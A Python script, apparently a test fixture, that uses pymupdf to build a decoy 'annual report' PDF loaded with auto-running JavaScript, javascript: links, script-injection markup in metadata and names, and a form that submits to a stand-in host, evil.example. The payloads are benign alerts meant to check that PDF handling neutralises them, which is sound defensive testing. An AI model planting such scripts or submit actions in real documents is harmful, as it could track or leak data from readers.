"""A PDF that tries what PDFs have tried: scripts at opening, on pages, in links, forms, outlines, names."""

from __future__ import annotations

import pymupdf

TRAP = "globalThis.trapped = 1; app.alert('trapped'); alert('trapped')"
MARKUP = "<img src='http://evil.example/pixel' onerror='alert(1)'><script>alert(1)</script>"
SENTENCE = "The board met four times and approved the accounts of the northern division."


def trap() -> bytes:
    document = pymupdf.open()
    page = document.new_page()
    page.insert_text((72, 90), "Annual report", fontsize=20, fontname="hebo")
    page.insert_text((72, 130), SENTENCE, fontsize=11)
    page.insert_text((72, 160), MARKUP, fontsize=9)
    document.new_page().insert_text((72, 90), SENTENCE, fontsize=11)
    document.set_metadata(
        {"title": f"Trap {MARKUP}", "author": MARKUP, "subject": MARKUP, "keywords": MARKUP}
    )
    document.set_toc([[1, MARKUP, 1], [2, "javascript:alert(1)", 2]])
    page = document[0]  # `set_toc` invalidates pages that were loaded before
    page.insert_link(link(pymupdf.Rect(72, 200, 300, 220), "javascript:alert(1)"))
    page.insert_link(link(pymupdf.Rect(72, 230, 300, 250), "http://evil.example/"))
    document.embfile_add(MARKUP, b"alert(1)", filename=f"{MARKUP}.js")
    script = new_object(document, f"<< /S /JavaScript /JS {pymupdf.get_pdf_str(TRAP)} >>")
    document.xref_set_key(document.pdf_catalog(), "OpenAction", script)
    document.xref_set_key(document.pdf_catalog(), "Names/JavaScript", f"<< /Names [(trap) {script}] >>")
    document.xref_set_key(page.xref, "AA", f"<< /O {script} /C {script} >>")
    add_form(document, page, script)
    return bytes(document.tobytes())


def add_form(document: pymupdf.Document, page: pymupdf.Page, script: str) -> None:
    """A field whose every event runs the script, and a button that sends the form away."""
    field = pymupdf.Widget()
    field.field_name = MARKUP
    field.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
    field.field_value = MARKUP
    field.rect = pymupdf.Rect(72, 300, 300, 320)
    page.add_widget(field)
    submit = new_object(document, "<< /S /SubmitForm /F (http://evil.example/submit) >>")
    (xref,) = (widget.xref for widget in page.widgets())
    document.xref_set_key(xref, "AA", f"<< /Fo {script} /Bl {script} /K {script} /PO {script} >>")
    document.xref_set_key(xref, "A", submit)


def link(area: pymupdf.Rect, uri: str) -> dict[str, object]:
    return {"kind": pymupdf.LINK_URI, "from": area, "uri": uri}


def new_object(document: pymupdf.Document, source: str) -> str:
    """A new object; its reference."""
    xref = document.get_new_xref()
    document.update_object(xref, source)
    return f"{xref} 0 R"
